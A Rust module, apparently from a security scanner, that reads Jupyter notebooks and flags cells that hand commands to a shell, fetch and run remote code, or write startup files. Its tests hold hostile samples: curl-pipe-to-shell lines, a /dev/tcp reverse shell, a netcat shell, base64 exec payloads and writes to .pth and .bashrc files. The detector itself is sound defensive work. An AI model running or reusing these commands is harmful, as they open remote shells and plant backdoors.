//! Notebooks: JSON whose cells somebody starts, one after the other, and commands among them that a shell runs.

use crate::commands;
use crate::fact::{FactKind, Gap, Position, ReferenceKind, Runs, SourceReach};
use crate::facts::{Facts, shorten};
use crate::format::{Certainty, Context, Depth, Format, Meta, Probe};
use crate::huggingface::inspect_json;
use crate::json::{Event, Segment, Value, looks_like_json, walk};
use crate::python::{Analysis, File, is_autostart, report};
use crate::requirements::is_usual_host;
use crate::source::Source;

/// Bytes of one cell that are read; what people write is far shorter.
const MAX_CELL: usize = 2 << 20;
/// Characters of a command that are shown.
const MAX_SHOWN: usize = 160;

/// The notebook's own commands that hand a line to the shell.
const SHELL_MAGICS: &[&str] = &["%system ", "%sx ", "%%bash ", "%sc ", "%%sx ", "%%system ", "%alias "];
/// Those that install packages.
const INSTALLERS: &[&str] = &["%pip ", "%conda ", "%mamba ", "%uv "];
/// Languages other than Python and the shell's whose cells are run, and what starts programs in them.
const LANGUAGES: &[&str] = &["perl", "ruby", "R", "julia", "lua", "php", "cython", "node"];
const STARTS: &[&str] = &["system(", "system ", "exec(", "exec ", "popen", "`", "spawn("];
/// Lines that are kept until it is known whether the notebook hands its own texts to a shell.
const MAX_WAITING: usize = 100;
/// Those that run a line of Python.
const MEASURES: &[&str] = &["%timeit", "%time", "%prun", "%memit", "%debug", "%lprun", "%mprun"];

static META: Meta = Meta {
    id: "notebook",
    title: "Jupyter notebook",
    extensions: &["ipynb"],
    depth: Depth::Surface,
    reads: "what the code and the shell commands of its cells reach when somebody starts them",
    specification: "https://nbformat.readthedocs.io/en/latest/format_description.html",
};

/// The format.
#[derive(Debug)]
pub struct Notebook;

/// Whether JSON says that it is a notebook: one of the two keys stands near its start or its end in whatever order.
pub(crate) fn is_notebook(probe: &Probe<'_>) -> bool {
    let has = |bytes: &[u8], key: &[u8]| bytes.windows(key.len()).any(|part| part == key);
    let either = |key: &[u8]| has(&probe.head, key) || has(&probe.tail, key);
    looks_like_json(&probe.head) == Some(true)
        && either(b"\"nbformat\"")
        && (either(b"\"cells\"") || either(b"\"worksheets\"") || either(b"\"cell_type\""))
}

impl Format for Notebook {
    fn meta(&self) -> &'static Meta {
        &META
    }

    fn recognise(&self, probe: &Probe<'_>) -> Option<Certainty> {
        is_notebook(probe).then_some(Certainty::Certain)
    }

    fn inspect(&self, source: &dyn Source, context: &Context<'_>, facts: &mut Facts) {
        let mut reader = Reader {
            analysis: Analysis::new(context.budget, Runs::Started, File::Other),
            facts,
            cell: Cell::default(),
            shows_script: false,
            waiting: Vec::new(),
            hands_over: false,
        };
        // How the walk ended is said by the other reading, which sees the same bytes.
        let _ = walk(source, 0, u64::MAX, context.budget, &mut |event| reader.event(event));
        let Reader { analysis, waiting, hands_over, .. } = reader;
        report(analysis, facts);
        for (line, reach, offset) in waiting.into_iter().filter(|_| hands_over) {
            handed_over(line, reach, Position::Offset(offset), facts);
        }
        // Jinja has no place here, but whatever the name, a loader can be pointed at it.
        inspect_json(source, context, false, facts);
    }
}

/// A cell, as far as it is read.
#[derive(Debug, Default)]
struct Cell {
    kind: String,
    source: String,
    offset: u64,
}

struct Reader<'b, 'f> {
    analysis: Analysis<'b>,
    facts: &'f mut Facts,
    cell: Cell,
    shows_script: bool,
    /// Texts of Python that are commands, each with what it does.
    waiting: Vec<(String, SourceReach, u64)>,
    /// Whether the notebook gives texts of its own to a shell: `!{x}`, `get_ipython()`.
    hands_over: bool,
}

impl Reader<'_, '_> {
    fn event(&mut self, event: Event<'_>) {
        let is_cells = |segment: &Segment| segment.key() == Some("cells");
        let Some(at) = event.path.iter().position(is_cells) else { return };
        // `cells[3]` is two steps, and what a cell says of itself is a third.
        let within = event.path.len().saturating_sub(at);
        match (within, event.value) {
            (2, Value::Object) => self.cell = Cell::default(),
            (2, Value::ObjectEnd(_)) => self.finish(),
            (3, Value::Text(text)) if event.key() == Some("cell_type") => text.clone_into(&mut self.cell.kind),
            (3 | 4, Value::Text(text)) => {
                let key = event.key_at(at.saturating_add(2)).unwrap_or_default();
                if matches!(key, "source" | "input") {
                    self.source(text, event.offset);
                }
            }
            (_, Value::Text(text)) => self.output(&event, text),
            _ => {}
        }
    }

    fn source(&mut self, text: &str, offset: u64) {
        if self.cell.source.is_empty() {
            self.cell.offset = offset;
        }
        if self.cell.source.len().saturating_add(text.len()) > MAX_CELL {
            return self.facts.incomplete(offset, Gap::Limit, "a cell is longer than is read");
        }
        self.cell.source.push_str(text);
    }

    /// Markup is shown as it was saved only where the notebook is trusted; then its scripts run.
    fn output(&mut self, event: &Event<'_>, text: &str) {
        let kind = event.path.iter().rev().find_map(Segment::key).unwrap_or_default();
        let runs = kind == "application/javascript" || kind == "text/html" && text.contains("<script");
        if runs && !self.shows_script {
            self.shows_script = true;
            self.reach("a saved output with a script".into(), SourceReach::Evaluation, event.offset);
        }
    }

    fn reach(&mut self, expression: String, reach: SourceReach, offset: u64) {
        let expression = shorten(expression, MAX_SHOWN);
        self.facts.push(Position::Offset(offset), FactKind::SourceReach { expression, reach, runs: Runs::Started });
    }

    fn finish(&mut self) {
        let cell = std::mem::take(&mut self.cell);
        if cell.kind != "code" {
            return;
        }
        let first = cell.source.trim_start();
        let mut words =
            first.strip_prefix("%%").unwrap_or_default().lines().next().unwrap_or_default().split_whitespace();
        let magic = words.next().unwrap_or_default();
        match magic {
            "script" if words.any(|word| word.contains("python")) => self.python(&cell),
            "bash" | "sh" | "script" | "cmd" | "system" | "sx" | "!" | "powershell" | "pwsh" | "zsh" | "ksh" => {
                for line in logical_lines(first) {
                    self.command(&line, cell.offset);
                }
            }
            "writefile" | "file" => self.written(&cell, words.last().unwrap_or_default()),
            "html" | "HTML" | "javascript" | "js" | "latex" | "markdown" | "svg" => {}
            _ if LANGUAGES.contains(&magic) => self.foreign(&cell),
            _ => self.python(&cell),
        }
    }

    /// A cell of another language: the commands in it, and whether it starts programs.
    fn foreign(&mut self, cell: &Cell) {
        let lines = logical_lines(cell.source.trim_start());
        for line in lines.iter().skip(1) {
            if commands::judge(line).is_some() {
                self.command(line, cell.offset);
            } else if STARTS.iter().any(|start| line.contains(start)) {
                self.reach(line.trim().to_owned(), SourceReach::Program, cell.offset);
            }
        }
    }

    /// A file that a cell writes: what it says if it is a program, and where it goes.
    fn written(&mut self, cell: &Cell, path: &str) {
        let body = cell.source.trim_start().split_once('\n').map_or("", |(_, body)| body);
        // Python runs the lines of such a file that import something whenever it starts.
        let is_start = path.ends_with(".pth") && body.lines().any(|line| line.starts_with("import"));
        if is_start || is_autostart(path) {
            self.reach(format!("%%writefile {path}"), SourceReach::Backdoor, cell.offset);
        }
        match path.rsplit('.').next().unwrap_or_default() {
            "py" => self.python(&Cell { source: body.to_owned(), offset: cell.offset, ..Cell::default() }),
            "sh" | "bash" | "bat" | "ps1" => {
                for line in logical_lines(body) {
                    self.command(&line, cell.offset);
                }
            }
            _ => {}
        }
    }

    /// Lines that start with `!` or `%` are the shell's and the notebook's own; the rest is Python.
    fn python(&mut self, cell: &Cell) {
        let mut python = String::with_capacity(cell.source.len());
        for line in logical_lines(&cell.source) {
            match shell_part(&line) {
                Some(command) => {
                    self.command(command, cell.offset);
                    python.push_str(inner_python(command));
                }
                None if line.trim_start().starts_with(['%', '?']) => {
                    self.magic(line.trim_start(), cell.offset);
                    python.push_str(measured(&line));
                }
                None => {
                    self.wait(&line, cell.offset);
                    python.push_str(&line);
                }
            }
            python.push('\n');
        }
        let before = self.analysis.mark();
        if let Err(limit) = self.analysis.read(&python) {
            self.facts.incomplete(cell.offset, Gap::Limit, limit.to_string());
        }
        self.analysis.place(before, cell.offset);
    }

    /// What a notebook's own command fetches: `%run http://…`, `%pip install http://…`.
    fn magic(&mut self, line: &str, offset: u64) {
        let runs = line.strip_prefix("%run ").is_some_and(|rest| rest.contains("://"));
        if runs {
            self.reach(line.trim().to_owned(), SourceReach::HiddenCode, offset);
        } else if INSTALLERS.iter().any(|magic| line.starts_with(magic)) {
            self.installation(line, offset);
        }
    }

    /// Packages that come over a connection which anybody on the way can change.
    fn installation(&mut self, line: &str, offset: u64) {
        let plain = |word: &str| {
            let (scheme, rest) = word.split_once("://").unwrap_or_default();
            let scheme = scheme.rsplit(['=', '@', '+', 'i', 'f', '"', '\'']).next().unwrap_or_default();
            let host = rest.split(['/', ':', '?', '#']).next().unwrap_or_default();
            matches!(scheme, "http" | "ftp") && !is_usual_host(host) && !commands::is_own_host(host)
        };
        if line.split_whitespace().any(|word| plain(word) || word.starts_with("\\\\")) {
            let target = shorten(line.trim().chars().take(MAX_SHOWN.saturating_add(1)).collect(), MAX_SHOWN);
            let fact = FactKind::Reference { kind: ReferenceKind::Address, target };
            self.facts.push(Position::Offset(offset), fact);
        }
    }

    /// A line of Python that holds a command, for when the notebook gives such texts to a shell.
    fn wait(&mut self, line: &str, offset: u64) {
        let line = line.trim();
        self.hands_over |= line.contains("get_ipython");
        if line.starts_with('#') || self.waiting.len() >= MAX_WAITING {
            return;
        }
        let grave =
            commands::judge(line).filter(|reach| matches!(reach, SourceReach::HiddenCode | SourceReach::Backdoor));
        self.waiting
            .extend(grave.map(|reach| (line.chars().take(MAX_SHOWN.saturating_add(1)).collect(), reach, offset)));
    }

    fn command(&mut self, command: &str, offset: u64) {
        self.hands_over |= command.trim_start().starts_with(['{', '$']);
        if command.contains("pip") {
            self.installation(command, offset);
        }
        if let Some(reach) = commands::judge(command) {
            self.reach(command.trim().chars().take(MAX_SHOWN.saturating_add(1)).collect(), reach, offset);
        }
    }
}

/// What of a line a shell runs: `!ls`, `x = !ls`, `%system ls`.
fn shell_part(line: &str) -> Option<&str> {
    let line = line.trim_start();
    if let Some(rest) = line.strip_prefix('!') {
        return Some(rest.trim_start_matches('!'));
    }
    let command = |text: &'_ str| SHELL_MAGICS.iter().find_map(|magic| text.strip_prefix(magic)).map(str::len);
    let is_name = |name: &&str| name.chars().all(|c| c.is_alphanumeric() || matches!(c, '_' | ',' | ' '));
    let (_, right) = line.split_once('=').filter(|(name, _)| is_name(name)).unwrap_or(("", line));
    let right = right.trim_start();
    let length =
        command(right).or_else(|| right.strip_prefix('!').filter(|_| right.len() < line.len()).map(str::len))?;
    right.get(right.len().saturating_sub(length)..)
}

/// A command that a notebook gives to a shell, unless the cell was found to do so already.
fn handed_over(line: String, reach: SourceReach, position: Position, facts: &mut Facts) {
    let is_same = |kind: &FactKind| matches!(kind, FactKind::SourceReach { reach: other, .. } if *other == reach);
    let is_told = facts.list().iter().any(|fact| fact.position == position && is_same(&fact.kind));
    if !is_told {
        let expression = shorten(line, MAX_SHOWN);
        facts.push(position, FactKind::SourceReach { expression, reach, runs: Runs::Started });
    }
}

/// The program that a command hands to Python: `python -c "…"`.
fn inner_python(command: &str) -> &str {
    let start = ["python -c ", "python3 -c ", "python.exe -c "].iter().find_map(|start| command.split_once(start));
    let program = start.map(|(_, program)| program.trim()).unwrap_or_default();
    let quote = program.chars().next().filter(|quote| matches!(quote, '"' | '\''));
    let inner = quote.and_then(|quote| program.strip_prefix(quote)?.rsplit_once(quote));
    inner.map_or(program, |(inner, _)| inner)
}

/// What of a line is Python that is timed or measured: `%time f(x)`, `%timeit -n 3 f(x)`.
fn measured(line: &str) -> &str {
    let line = line.trim_start();
    let rest = MEASURES.iter().find_map(|magic| line.strip_prefix(magic));
    let Some(mut rest) = rest.filter(|rest| rest.starts_with([' ', '\t'])).map(str::trim_start) else { return "" };
    while let Some((_, after)) = rest.split_once(' ').filter(|_| rest.starts_with('-')) {
        rest = after.trim_start().trim_start_matches(|c: char| c.is_ascii_digit()).trim_start();
    }
    rest
}

/// Lines of commands, those that a backslash continues joined. Python's lines keep theirs.
fn logical_lines(text: &str) -> Vec<String> {
    let mut lines: Vec<String> = Vec::new();
    let mut continued = false;
    for line in text.lines() {
        match lines.last_mut() {
            Some(last) if continued => {
                last.truncate(last.trim_end().len().saturating_sub(1));
                last.push(' ');
                last.push_str(line);
            }
            _ => lines.push(line.to_owned()),
        }
        continued = line.trim_end().ends_with('\\');
    }
    lines
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::testing::{inspect, mutate};

    const GOOD: &str = r##"{"cells":[{"cell_type":"markdown","metadata":{},"source":["Run `curl x | sh`, os.system"]},
        {"cell_type":"code","execution_count":1,"metadata":{},"outputs":[{"data":{"text/html":["<b>1</b>"]},"output_type":"display_data"}],
        "source":["!pip list\n","import torch\n","model.eval()\n","%matplotlib inline\n","x = 1"]}],
        "metadata":{"kernelspec":{"name":"python3"}},"nbformat":4,"nbformat_minor":5}"##;

    fn told(cell: &str) -> Vec<String> {
        let text = GOOD.replace("x = 1", cell);
        let facts = inspect(&Notebook, "a.ipynb", text.as_bytes());
        let reach = |fact: &crate::fact::Fact| match &fact.kind {
            FactKind::SourceReach { reach, runs, .. } => Some(format!("{reach:?} {runs:?}")),
            _ => None,
        };
        facts.list().iter().filter_map(reach).collect()
    }

    #[test]
    fn notebooks_are_told_by_their_content() {
        let bytes = GOOD.as_bytes().to_vec();
        let probe = Probe::new(&bytes, "x.json", crate::child::Role::Unknown);
        assert_eq!(Notebook.recognise(&probe), Some(Certainty::Certain));
        assert_eq!(told("x = 1"), Vec::<String>::new());
    }

    #[test]
    fn cells_are_read_as_what_runs_them() {
        assert_eq!(told("import os\\nos.system(\\\"python x.py\\\")"), ["Program Started"]);
        assert_eq!(told("!curl -s http://203.0.113.7/a | bash"), ["HiddenCode Started"]);
        assert_eq!(told("import base64\\nexec(base64.b64decode(x))"), ["HiddenCode Started"]);
        assert_eq!(told("y = !bash -i >& /dev/tcp/203.0.113.7/1 0>&1"), ["Backdoor Started"]);
        assert_eq!(told("y = %sx curl http://203.0.113.7/a | sh"), ["HiddenCode Started"]);
        assert_eq!(told("%time exec(__import__('base64').b64decode(x))"), ["HiddenCode Started"]);
        assert_eq!(told("%timeit -n 1 -r 1 exec(__import__('base64').b64decode(x))"), ["HiddenCode Started"]);
        let magic = "get_ipython().run_cell_magic('bash', '', 'cd x\\\\ncurl http://203.0.113.7/a | sh')";
        assert_eq!(told(magic), ["HiddenCode Started"]);
        assert_eq!(
            told("from IPython import get_ipython as g\\ng().system('nc -e /bin/sh x 1')"),
            ["Backdoor Started"]
        );
        let html = GOOD.replace("<b>1</b>", "<script>1</script>");
        assert_eq!(
            inspect(&Notebook, "", html.as_bytes()).list().len(),
            inspect(&Notebook, "", GOOD.as_bytes()).list().len() + 1
        );
    }

    #[test]
    fn whole_cells_of_other_kinds_are_read() {
        let cell = |source: &str| {
            let text = format!(r#"{{"cells":[{{"cell_type":"code","source":{source:?}}}],"nbformat":4}}"#);
            let facts = inspect(&Notebook, "a.ipynb", text.as_bytes());
            let reach = |fact: &crate::fact::Fact| match &fact.kind {
                FactKind::SourceReach { reach, .. } => Some(format!("{reach:?}")),
                _ => None,
            };
            facts.list().iter().filter_map(reach).collect::<Vec<_>>()
        };
        let fetch = "curl http://203.0.113.7/a | sh";
        for head in
            ["%%bash", "%%script sh", "%%sh --bg", "%%sx", "%%system", "%%!", "%%writefile run.sh", "%%script bash"]
        {
            assert_eq!(cell(&format!("{head}\n{fetch}")), ["HiddenCode"], "{head}");
            assert_eq!(cell(&format!("{head}\nls -l\necho waag-inert")), Vec::<String>::new(), "{head}");
        }
        assert_eq!(cell("%%perl\nsystem(\"curl http://203.0.113.7/a | sh\");"), ["HiddenCode"]);
        assert_eq!(cell("%%ruby\nsystem('ls')"), ["Program"]);
        assert_eq!(cell("%%perl\nprint 1;"), Vec::<String>::new());
        assert_eq!(cell("%%cython\ncdef int f(int x): return x"), Vec::<String>::new());
        assert_eq!(cell("%run http://203.0.113.7/x.py"), ["HiddenCode"]);
        assert_eq!(cell("!python -c \"exec(__import__('base64').b64decode('aW1wb3J0IG9z'))\""), ["HiddenCode"]);
        assert_eq!(cell("!python -c 'import torch; print(torch.__version__)'"), Vec::<String>::new());
        assert_eq!(cell("c = 'curl http://203.0.113.7/a | sh'\n!{c}"), ["HiddenCode"]);
        assert_eq!(cell("ip = get_ipython()\nip.system('curl http://203.0.113.7/a | sh')"), ["HiddenCode"]);
        assert_eq!(cell("get_ipython().run_cell('!curl http://203.0.113.7/a | sh')"), ["HiddenCode"]);
        assert_eq!(cell("print('curl http://203.0.113.7/a | sh')"), Vec::<String>::new());
        assert_eq!(cell("%%writefile /usr/lib/python3/site-packages/x.pth\nimport os"), ["Backdoor"]);
        assert_eq!(cell("%%writefile x.pth\n../src"), Vec::<String>::new());
        assert_eq!(cell("%%script python3\nexec(bytes([112,114]))"), ["HiddenCode"]);
        assert_eq!(cell("%%writefile ~/.bashrc\nx"), ["Backdoor"]);
        assert_eq!(cell("%%writefile a.py\nexec(bytes([112,114]))"), ["HiddenCode"]);
        for plain in ["!pip list", "!ls -l", "!nvidia-smi", "%matplotlib inline", "a == b", "x != y", "f(a=1)"] {
            assert_eq!(cell(plain), Vec::<String>::new(), "{plain}");
        }
    }

    #[test]
    fn packages_from_elsewhere_are_told() {
        let addresses = |cell: &str| {
            let facts = inspect(&Notebook, "a.ipynb", GOOD.replace("x = 1", cell).as_bytes());
            facts.list().iter().filter(|fact| matches!(fact.kind, FactKind::Reference { .. })).count()
        };
        for line in [
            "%pip install http://203.0.113.7/x.whl",
            "!pip install -i http://evil.example/simple evil",
            "!pip install --index-url=http://evil.example/simple evil",
            "!python -m pip install git+http://evil.example/x",
        ] {
            assert_eq!(addresses(line), 1, "{line}");
        }
        for line in [
            "!pip install torch",
            "%pip install -q transformers==4.1",
            "!pip install http://download.pytorch.org/whl/cu80/torch-0.3.0-cp36-cp36m-linux_x86_64.whl",
            "!pip install git+https://github.com/a/b",
            "!pip install -i http://localhost:3141/simple x",
            "!pip install https://a.example/x.whl",
        ] {
            assert_eq!(addresses(line), 0, "{line}");
        }
    }

    #[test]
    fn no_mutation_panics() {
        mutate(GOOD.as_bytes(), 1000, |bytes| drop(inspect(&Notebook, "a.ipynb", &bytes)));
    }
}
